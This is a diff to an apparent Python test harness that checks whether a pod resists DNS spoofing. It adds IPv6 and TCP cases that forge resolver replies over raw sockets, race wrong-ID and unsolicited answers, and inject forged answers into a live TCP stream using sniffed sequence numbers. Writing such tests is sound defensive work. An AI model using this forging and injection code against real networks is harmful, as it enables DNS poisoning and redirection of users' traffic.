@@ -29,12 +29,15 @@ def answer(ident, address, qname=NAME, owner=None):
 
 def forge(data, source=RESOLVER4, sport=53, dport=PORT):
     """From the world, in the name of a DNS server."""
-    send_raw(ip4(source, POD4, 17, udp_segment(source, POD4, sport, dport, data)))
+    if ":" in source:
+        send_raw(ip6(source, POD6, 17, udp_segment(source, POD6, sport, dport, data)))
+    else:
+        send_raw(ip4(source, POD4, 17, udp_segment(source, POD4, sport, dport, data)))
 
 
 def ask(ident=7, qname=NAME, server=RESOLVER4, wait=True):
     """A question from a port that the accomplice knows, and what came back."""
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
     s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     s.bind(("", PORT))
     s.settimeout(TIMEOUT)
@@ -47,6 +50,11 @@ def ask(ident=7, qname=NAME, server=RESOLVER4, wait=True):
 def use():
     """Goes where the forged answer led."""
     attempt(lambda: tcp(EVIL4, 443), lambda: udp(EVIL4))
+
+
+def use6():
+    """The same over IPv6."""
+    attempt(lambda: tcp(EVIL6, 443), lambda: udp(EVIL6))
 
 
 def forged_all_along(*arguments, **more):
@@ -106,13 +114,14 @@ def other_port():
     use()
 
 
-def hear(ident):
+def hear(ident, version=4):
     """Waits until the question has come to the server: how long an attacker takes to begin is not known."""
-    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
+    s = socket.socket(socket.AF_INET if version == 4 else socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP)
     s.settimeout(20)
     while True:
         packet = s.recv(2000)
-        data = packet[(packet[0] & 15) * 4:]
+        # Of IPv6, a raw socket is given no header.
+        data = packet[(packet[0] & 15) * 4:] if version == 4 else packet
         if data[:4] == struct.pack("!HH", PORT, 53) and data[8:10] == struct.pack("!H", ident):
             return
 
@@ -127,10 +136,79 @@ def late_duplicate():
     use()
 
 
+@way(helper=lambda: [forged_all_along(each, source=RESOLVER6) for each in (
+    answer(6, EVIL6), answer(8, EVIL6), answer(7, EVIL6, "api.other.test"))])
+def wrong_id_or_name_over_ipv6():
+    """Answers with another ID, and then such for another name, race with the real one that comes over IPv6."""
+    time.sleep(0.1)
+    for _ in range(4):
+        ask(server=RESOLVER6)
+        time.sleep(0.5)
+    use6()
+
+
+@way(helper=lambda: [forged_all_along(answer(7, EVIL6), source=source) for source in (STRANGER6, RESOLVER4)])
+def other_server_over_ipv6():
+    """Answers from addresses that were not asked: nobody's, and that of the pod's other server."""
+    time.sleep(0.1)
+    for _ in range(3):
+        ask(server=RESOLVER6)
+        time.sleep(0.5)
+    use6()
+
+
+@way(helper=lambda: [hear(7, 6), time.sleep(0.7), forged_all_along(answer(7, EVIL6), source=RESOLVER6)])
+def late_duplicate_over_ipv6():
+    """A second answer to a question that was answered over IPv6."""
+    time.sleep(0.3)
+    s = ask(server=RESOLVER6)
+    time.sleep(1.0)
+    attempt(lambda: s.recv(1000))
+    use6()
+
+
+@way(helper=lambda: forged_all_along(answer(7, EVIL6), source=RESOLVER6))
+def unasked_over_ipv6():
+    """An answer to a question that nobody asked, over IPv6."""
+    time.sleep(0.3)
+    use6()
+
+
 @way(helper=lambda: forged_all_along(answer(7, EVIL4)))
 def unasked():
     """An answer to a question that nobody asked."""
     time.sleep(0.3)
+    use()
+
+
+def inject():
+    """Into the pod's connection to its server, at the place where its kernel expects the server's next byte: answers with another
+    ID and for another name. First before the question, then as if to it."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
+    s.settimeout(3)
+    forged = b"".join(struct.pack("!H", len(each)) + each
+                      for each in (answer(8, EVIL4), answer(7, EVIL4, "api.other.test")))
+    while True:
+        packet = s.recv(2000)
+        segment = packet[(packet[0] & 15) * 4:]
+        sport, dport, seq, ack, offset, flags = struct.unpack("!HHIIBB", segment[:14])
+        if (sport, dport) == (PORT, 53) and flags & 0x17 == 0x10:
+            seq += len(segment) - (offset >> 4) * 4
+            send_raw(ip4(RESOLVER4, POD4, 6, tcp_segment(RESOLVER4, POD4, 53, PORT, 0x18, forged, ack, seq & 0xffffffff)))
+            time.sleep(0.05)
+
+
+@way(helper=lambda: attempt(inject))
+def injected_over_tcp():
+    """Answers that somebody on the way puts into the pod's own connection to its server."""
+    time.sleep(0.3)
+    with socket.socket() as s:
+        s.bind(("", PORT))
+        s.settimeout(TIMEOUT)
+        s.connect((RESOLVER4, 53))
+        time.sleep(0.3)
+        question = query(7)
+        attempt(lambda: s.send(struct.pack("!H", len(question)) + question), lambda: s.recv(4000), lambda: s.recv(4000))
     use()
 
 
